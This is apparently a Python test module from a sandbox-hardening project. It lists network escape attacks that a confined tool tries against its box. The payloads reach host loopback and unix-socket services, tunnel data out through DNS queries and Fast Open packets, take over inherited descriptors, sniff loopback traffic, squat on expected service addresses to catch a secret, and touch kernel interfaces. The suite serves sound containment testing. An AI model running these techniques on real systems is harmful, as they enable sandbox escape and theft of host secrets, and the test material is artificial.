"""A tool without a host grant that wants out: to the host's loopback, to its sockets, to anybody at all."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
import time
from collections.abc import Iterator, Mapping
from typing import TYPE_CHECKING, Any

from toolwright.escape import nowall
from toolwright.escape.attack import Family, got_secret, hit, more_than, says

if TYPE_CHECKING:
    from toolwright.escape.world import World

attack = Family("network")

_CALLER_S = 4.0
_NOBODYS = "127.0.0.9"


@contextlib.contextmanager
def _more_addresses(world: World, _wall: bool) -> Iterator[Mapping[str, Any]]:
    """Loopback by IPv6 where the machine has it, and ports for datagrams."""
    told: dict[str, Any] = {"udp": world.listen(socket.AF_INET, ("127.0.0.1", 0)).getsockname()[1]}
    with contextlib.suppress(OSError):
        told["port6"] = world.serve(socket.AF_INET6, ("::1", 0)).getsockname()[1]
        told["udp6"] = world.listen(socket.AF_INET6, ("::1", 0)).getsockname()[1]
    yield told


@contextlib.contextmanager
def _a_caller(world: World, _wall: bool) -> Iterator[Mapping[str, Any]]:
    """A program of the host that connects, as programs do, to where a service of its own is expected."""
    with socket.socket() as free:
        free.bind((_NOBODYS, 0))  # not where the servers of other worlds are
        port = free.getsockname()[1]
    path = str(world.shared / "service")
    places: list[tuple[socket.AddressFamily, Any]] = [(socket.AF_INET, (_NOBODYS, port)), (socket.AF_UNIX, path)]
    ended = threading.Event()

    def call() -> None:
        deadline = time.monotonic() + _CALLER_S
        while time.monotonic() < deadline and not ended.wait(0.05):
            for family, address in places:
                with contextlib.suppress(OSError), socket.socket(family) as line:
                    line.settimeout(0.5)
                    line.connect(address)
                    line.sendall(world.secret_text.encode())
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.sendto(world.secret_text.encode(), (_NOBODYS, port))

    caller = threading.Thread(target=call, daemon=True)
    caller.start()
    try:
        yield {"free": [_NOBODYS, port], "service": path}
    finally:
        ended.set()
        caller.join()


@contextlib.contextmanager
def _left_open(world: World, _wall: bool) -> Iterator[Mapping[str, Any]]:
    """A connection and a file that the host holds open for its children to inherit."""
    with socket.create_connection(("127.0.0.1", world.port)) as line, open(world.secret, "rb") as file:
        world.counted()
        world.hits = 0  # that was us
        left = {line.fileno(), file.fileno()}
        for one in left:
            os.set_inheritable(one, True)
        nowall.LEFT_OPEN.update(left)
        try:
            yield {}
        finally:
            nowall.LEFT_OPEN.difference_update(left)


ATTACKS = (
    attack(
        "the host's loopback",
        """
        import socket
        def tcp(address):
            with socket.create_connection((address, it["port"]), timeout=1) as line:
                return line.recv(1)
        return loot(lambda: tcp("127.0.0.1"), lambda: tcp("localhost"), lambda: tcp("0.0.0.0"))
        """,
        hit,
        gain="talks to a service of the host that trusts whoever is on the same machine",
    ),
    attack(
        "a socket by the bare call",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        line = syscall(41 if platform.machine() == "x86_64" else 198, 2, 1, 0)
        address = (2).to_bytes(2, "little") + it["port"].to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
        return syscall(42 if platform.machine() == "x86_64" else 203, line, address, 16)
        """,
        hit,
        gain="connects past whatever was taken away in Python alone",
    ),
    attack(
        "a library that fetches",
        """
        import http.client, urllib.request
        def fetch():
            with urllib.request.urlopen(f"http://127.0.0.1:{it['port']}/", timeout=1) as answer:
                return answer.read()
        def ask():
            line = http.client.HTTPConnection("127.0.0.1", it["port"], timeout=1)
            line.request("GET", "/")
            return line.getresponse().read()
        return loot(fetch, ask)
        """,
        hit,
        gain="fetches a page, without any host granted",
    ),
    attack(
        "loopback by IPv6",
        """
        import socket
        with socket.socket(socket.AF_INET6) as line:
            line.settimeout(1)
            # Where the machine has no IPv6, the same kind of socket still leads to IPv4.
            line.connect(("::1", it["port6"]) if "port6" in it else ("::ffff:127.0.0.1", it["port"]))
            return line.recv(1)
        """,
        hit,
        stage=_more_addresses,
        gain="goes where a wall for IPv4 alone does not look",
    ),
    attack(
        "datagrams to the host",
        """
        import socket
        def send(family, address):
            with socket.socket(family, socket.SOCK_DGRAM) as line:
                return line.sendto(b"out", address)
        def connected():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
                line.connect(("127.0.0.1", it["udp"]))
                return line.sendmsg([b"o", b"ut"])
        return loot(lambda: send(socket.AF_INET, ("127.0.0.1", it["udp"])), connected,
                    lambda: send(socket.AF_INET6, ("::1", it["udp6"])))
        """,
        hit,
        stage=_more_addresses,
        wait_s=0.1,
        gain="sends data out in packets that need no connection",
    ),
    attack(
        "a question to a name server",
        """
        import socket
        question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\x0bmy-own-data\\7invalid\\0\\0\\1\\0\\1"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP) as line:
            line.settimeout(0.2)
            line.sendto(question, ("127.0.0.1", it["udp"]))
            return line.recv(100).hex()
        """,
        hit,
        stage=_more_addresses,
        wait_s=0.1,
        gain="carries data out in the names that it asks for (DNS)",
    ),
    attack(
        "data in the packet that connects",
        """
        import socket
        with socket.socket() as line:
            return line.sendto(b"out", socket.MSG_FASTOPEN, ("127.0.0.1", it["port"]))
        """,
        hit,
        wait_s=0.1,
        gain="connects by sending (MSG_FASTOPEN), where only `connect` is forbidden",
    ),
    attack(
        "unix sockets",
        """
        import socket
        def connect(address):
            with socket.socket(socket.AF_UNIX) as line:
                line.connect(address)
                return line.recv(1)
        return loot(lambda: connect(it["abstract"]), lambda: connect(it["unix"]))
        """,
        hit,
        gain="talks to a service of the host by its path or its abstract name, as a container engine's",
    ),
    attack(
        "every socket that lies about",
        """
        import socket, stat
        reached = []
        mine = os.path.dirname(it["unix"])  # other attacks have sockets of their own
        for top in ("/run", "/dev/shm", "/tmp"):
            for folder, folders, files in os.walk(top):
                folders[:] = [one for one in folders if folder.count("/") < 3]
                for name in files:
                    path = os.path.join(folder, name)
                    try:
                        if not stat.S_ISSOCK(os.lstat(path).st_mode) or not path.startswith(mine):
                            continue
                        with socket.socket(socket.AF_UNIX) as line:
                            line.connect(path)
                            reached.append(path)
                    except OSError:
                        pass
        return reached
        """,
        hit,
        gain="finds services of the host by itself: agents for keys, desktops, engines",
    ),
    attack(
        "datagrams out of one of a pair",
        """
        import socket
        done = []
        for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
            pair = socket.socketpair(socket.AF_UNIX, kind)
            done += loot(lambda: pair[0].sendto(b"x", it["abstract"] + "-datagrams"),
                         lambda: pair[0].sendmsg([b"x"], [], 0, it["abstract"] + "-datagrams"))
        return done
        """,
        hit,
        wait_s=0.1,
        gain="sends to a socket of the host with one that it was allowed to make",
    ),
    attack(
        "a pair that is taken apart",
        """
        import socket
        pair = socket.socketpair()
        libc = __import__("ctypes").CDLL(None, use_errno=True)
        nowhere = bytes(16)  # AF_UNSPEC
        def again(one):
            libc.connect(one.fileno(), nowhere, 16)
            one.connect(it["abstract"])
            return one.recv(1)
        def dgram():
            one = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
            one.connect(it["abstract"] + "-datagrams")
            return one.send(b"x")
        return loot(lambda: again(pair[0]), dgram)
        """,
        hit,
        wait_s=0.1,
        gain="connects one of a pair to somebody else",
    ),
    attack(
        "what the host left open",
        """
        import socket
        found = []
        for number in range(3, 1024):
            try:
                os.lseek(number, 0, 0)
                found.append(os.read(number, 200).decode("latin-1"))
            except OSError:
                pass
            try:
                with socket.socket(fileno=os.dup(number)) as line:
                    found.append(f"a line to {line.getpeername()}")
            except OSError:
                pass
        return found
        """,
        lambda seen: "a line to ('127.0.0.1'" in seen.text,
        stage=_left_open,
        gain="goes on with a connection or a file that the host had open when the box was made",
    ),
    attack(
        "descriptors that travel",
        """
        import array, socket
        one, other = socket.socketpair()
        null = os.open("/dev/null", os.O_RDONLY)
        flying = 0
        try:
            while flying < 900:
                one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 100))])
                flying += 100
        except OSError:
            pass
        return flying
        """,
        more_than(700),
        gain="holds more descriptors than it may have, in messages that nobody reads",
    ),
    attack(
        "a filter on a socket",
        """
        import ctypes, socket
        ours, theirs = socket.socketpair()
        class Program(ctypes.Structure):
            _fields_ = [("length", ctypes.c_ushort), ("code", ctypes.c_char_p)]
        code = bytes([6, 0, 0, 0, 0, 0, 0, 0])
        ours.setsockopt(socket.SOL_SOCKET, 26, bytes(Program(1, code)))
        return "attached"
        """,
        says("attached"),
        gain="loads a program into the kernel, by way of a socket",
    ),
    attack(
        "other kinds of socket",
        """
        import socket
        def opened(family, kind, protocol):
            socket.socket(family, kind, protocol).close()
        kinds = {"routes": (16, 3, 0), "audit": (16, 3, 9), "events": (16, 3, 15), "packets": (17, 3, 0),
                 "vsock": (40, 1, 0), "raw": (2, 3, 1), "ping": (2, 2, 1), "udp": (2, 2, 0), "ipv6": (10, 1, 0),
                 "crypto": (38, 5, 0), "keys": (15, 3, 2), "bluetooth": (31, 3, 0), "mptcp": (2, 1, 262),
                 "sctp": (2, 1, 132), "xdp": (44, 3, 0), "tipc": (30, 1, 0), "can": (29, 3, 1), "unix": (1, 2, 0)}
        return doors(**{name: lambda one=one: opened(*one) for name, one in kinds.items()})
        """,
        lambda seen: any("EAFNOSUPPORT" not in one for one in (seen.value or {}).get("open", [])),
        gain="reaches parts of the kernel that few have looked at, or the wire itself",
    ),
    attack(
        "the machine's own addresses",
        """
        import socket
        def by_ioctl():
            import fcntl
            with socket.socketpair()[0] as line:
                return fcntl.ioctl(line, 0x8912, bytes(16)).hex() and "ioctl answered"
        return loot(lambda: "has " + str(socket.if_nameindex()), by_ioctl, lambda: os.listdir("/sys/class/net"),
                    lambda: read("/proc/net/dev"), lambda: read("/proc/net/route"), lambda: read("/proc/net/arp"))
        """,
        lambda seen: "has [" in seen.text or "answered" in seen.text or "'lo'" in seen.text or "Inter-" in seen.text,
        gain="learns which networks and neighbours the host has",
    ),
    attack(
        "the host's connections",
        """
        tables = ("tcp", "tcp6", "udp", "unix", "netlink", "sockstat")
        paths = [f"/proc/{who}/net/{one}" for who in ("self", "1", it["host"], "thread-self") for one in tables]
        mine = ["%04X" % it["port"], it["abstract"].strip("\\0")]
        return [one for one in loot(*[lambda path=path: read(path) for path in paths]) if any(x in one for x in mine)]
        """,
        lambda seen: isinstance(seen.value, list) and bool(seen.value),
        gain="learns which services and connections the host has, and the names of its abstract sockets",
    ),
    attack(
        "a service that others expect",
        """
        import select, socket
        servers = []
        for family, address in ((socket.AF_INET, tuple(it["free"])), (socket.AF_UNIX, it["service"])):
            try:
                server = socket.socket(family)
                server.bind(address)
                server.listen()
                os.chmod(address, 0o777) if family == socket.AF_UNIX else None
                servers.append(server)
            except OSError:
                pass
        heard = []
        for server in select.select(servers, [], [], 1.0)[0] if servers else []:
            heard.append(server.accept()[0].recv(200).decode())
        return heard
        """,
        got_secret,
        stage=_a_caller,
        gain="stands where a program of the host expects a service, and hears what that says",
    ),
    attack(
        "what passes on the wire",
        """
        import socket
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as line:
            line.bind(("lo", 0))
            line.settimeout(1.2)
            while True:
                if b"planted" in (data := line.recv(4000)):
                    return data.decode("latin-1")
        """,
        got_secret,
        stage=_a_caller,
        kernel="user",
        gain="reads what others on this machine send each other",
    ),
    attack(
        "a message to the kernel's router",
        """
        import socket, struct
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as line:
            line.send(struct.pack("=IHHII", 17, 18, 0x301, 1, 0) + b"\\0\\0\\0\\0")
            return "answered " + str(len(line.recv(65536)))
        """,
        says("answered "),
        gain="asks for, or changes, the interfaces and routes of the namespace that it stands in",
    ),
)
